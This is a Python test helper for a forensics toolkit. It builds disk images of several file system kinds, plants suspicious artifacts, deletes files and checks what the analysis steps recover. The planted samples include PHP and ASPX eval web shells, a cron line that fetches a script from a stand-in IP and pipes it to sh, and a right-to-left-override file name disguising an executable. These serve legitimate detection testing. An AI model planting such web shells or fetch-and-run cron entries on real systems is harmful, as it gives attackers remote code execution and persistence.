# Copyright (c) 2026 The dfir.aws authors
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""Analyzes one file system of each kind, with deleted files, and prints what came of it as JSON.

Started by the test in a mount namespace of its own. All steps but plaso run, with this machine's tools. Needs root.
"""

from __future__ import annotations

import hashlib
import json
import os
import shutil
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

from stage import CHECKOUT, make, sh, sha256

IMAGE = CHECKOUT / "roles/toolbox/files/image"
HIT = IMAGE / "samples/hit.txt"
GONE = {"small.txt": b"a few words\n", "dropper.bin": bytes(range(256)) * 800}
SIZES = {"ntfs": 32, "vfat": 16, "btrfs": 120, "ext4": 48, "xfs": 320}
SHELL = '<?php @eval($_POST["x"]); ?>'


def windows(root: Path) -> None:
    """A little of what a Windows server holds, odd names included."""
    for folder in ("Windows/System32/config", "Users/Bob O'Neill/Desktop", "inetpub/wwwroot/uploads", "$Recycle.Bin"):
        (root / folder).mkdir(parents=True)
    shutil.copyfile(HIT, root / "Users/Bob O'Neill/hit.exe")
    (root / "inetpub/wwwroot/uploads/a.aspx").write_text('<%eval(Request.Item["c"],"unsafe");%>')
    (root / "Windows/System32/config/SYSTEM").write_bytes(b"regf" + os.urandom(9000))
    (root / "Users/Bob O'Neill/Desktop/\U0001f4a9 \u202egpj.exe").write_bytes(b"MZ")
    (root / "Users/All Users").symlink_to("C:\\ProgramData")
    (root / "hiberfil.sys").write_bytes(b"hibr" + bytes(4096))  # Windows was put to sleep


def linux(root: Path) -> None:
    for folder in ("etc/cron.d", "var/www/html/uploads", "opt"):
        (root / folder).mkdir(parents=True)
    (root / "etc/passwd").write_text("root:x:0:0:root:/root:/bin/bash\n")
    shutil.copyfile(HIT, root / "opt/hit.exe")
    (root / "etc/cron.d/sys").write_text("* * * * * root curl -s http://192.0.2.9/a.sh | sh\n")
    (root / "var/www/html/uploads/a.php").write_text(SHELL)


def fill(image: Path, kind: str, content: Callable[[Path], None]) -> None:
    """Mount for writing, put content there, and delete two files that were on the disk before."""
    point = image.parent / "fill"
    point.mkdir(exist_ok=True)
    loop = sh("losetup", "--find", "--show", str(image)).strip()
    try:
        sh("blockdev", "--setrw", loop)
        mount = ("mount", "-t", "ntfs-3g" if kind == "ntfs" else kind, loop, str(point))
        sh(*mount)
        content(point)
        (point / "gone").mkdir()
        for number in range(60):  # more than XFS keeps in the inode of the folder
            (point / "gone" / f"a file with a longer name {number}").write_text("stays")
        for name, data in GONE.items():
            (point / "gone" / name).write_bytes(data)
        sh("sync", "--file-system", str(point))
        if kind == "xfs":  # which writes inodes to their places late
            sh("umount", str(point))
            sh(*mount)
        for name in GONE:
            (point / "gone" / name).unlink()
        sh("umount", str(point))
    finally:
        sh("losetup", "--detach", loop)


def fill_fat(image: Path) -> None:
    """The same without a driver, which few kernels here have."""
    for folder in ("EFI", "EFI/BOOT", "gone"):
        sh("mmd", "-i", str(image), f"::{folder}")
    sh("mcopy", "-i", str(image), str(HIT), "::EFI/BOOT/BOOTX64.EFI")
    for name, data in GONE.items():
        (image.parent / name).write_bytes(data)
        sh("mcopy", "-i", str(image), str(image.parent / name), f"::gone/{name}")
    for name in GONE:
        sh("mdel", "-i", str(image), f"::gone/{name}")


def play(work: Path) -> dict[str, Any]:
    from ansible_collections.dfir.aws.plugins.module_utils.evidence_journal import device_reader, journal_dirty
    from ansible_collections.dfir.aws.plugins.module_utils.evidence_mount import mount_options
    from ansible_collections.dfir.aws.plugins.module_utils.forensics import analyze, plaso_run, scan
    from ansible_collections.dfir.aws.plugins.module_utils.forensics.model import Artifacts, Evidence, Host, Partition

    share = work / "share"
    shutil.copytree(IMAGE / "rules", share / "rules")
    scan.SHARE = share
    partitions, images, result, loops, presets = [], {}, {}, [], {}
    for number, (kind, size) in enumerate(SIZES.items(), 1):
        images[kind] = image = make(work, size, kind, dirty=False)
        if kind == "ntfs":
            sh("ntfsfix", str(image))  # marks the volume dirty, as every snapshot of a running Windows is
        if kind == "vfat":
            fill_fat(image)
        else:
            fill(image, kind, windows if kind == "ntfs" else linux)
        result[kind] = {"before": sha256(image)}
        loop = sh("losetup", "--find", "--show", "--read-only", str(image)).strip()
        loops.append(loop)
        point = work / f"p{number}"
        point.mkdir()
        driver = "ntfs-3g" if kind == "ntfs" else kind
        mounted = kind != "vfat" and subprocess.run(
            ["mount", "-t", driver, "-o", mount_options(kind), loop, str(point)], check=False).returncode == 0
        result[kind]["dirty"] = journal_dirty(kind, device_reader(loop))
        partitions.append(Partition(number, loop, kind, "filesystem", size << 20, mounted,
                                    str(point) if mounted else None, None, None))
        presets[kind] = plaso_run.choose(partitions[-1], "auto", "filtered")[0]
    steps = tuple(step for step in analyze.STEP_ORDER if step != "plaso")
    (work / "scratch").mkdir()
    evidence = Evidence("vol-0123456789abcdef0", "snap-0", 1, tuple(partitions))
    settings = analyze.Settings(Host((evidence,)), Artifacts(work / "out"), work / "scratch", steps=steps)
    try:
        complete = analyze.analyze(settings)
    finally:
        for number, loop in enumerate(loops, 1):
            subprocess.run(["umount", str(work / f"p{number}")], capture_output=True, check=False)
            sh("losetup", "--detach", loop)
    out = work / "out"
    for partition in partitions:
        stem = evidence.stem(partition)
        found = result[partition.type]
        found["after"] = sha256(images[partition.type])
        found["image"] = str(images[partition.type])
        found["mounted"] = partition.mounted
        found["preset"] = presets[partition.type]
        found["timeline"] = [line.split("|")[1] for line in (out / f"{stem}.bodyfile").read_text().splitlines()]
        for name in ("findings", "yara", "clamav", "deleted"):
            found[name] = json.loads((out / f"{stem}.{name}.json").read_text())
    sums = dict(reversed(line.split("  ")) for line in (out / "sha256sums.txt").read_text().splitlines())
    listed = all(hashlib.sha256((out / name).read_bytes()).hexdigest() == digest for name, digest in sums.items())
    names = sorted(path.name for path in out.iterdir())
    return {"complete": complete, "kinds": result, "sums": listed and sorted([*sums, "sha256sums.txt"]) == names}


if __name__ == "__main__":
    real, sys.stdout = sys.stdout, sys.stderr  # progress is not part of the answer
    real.write(json.dumps(play(Path(sys.argv[1]))))
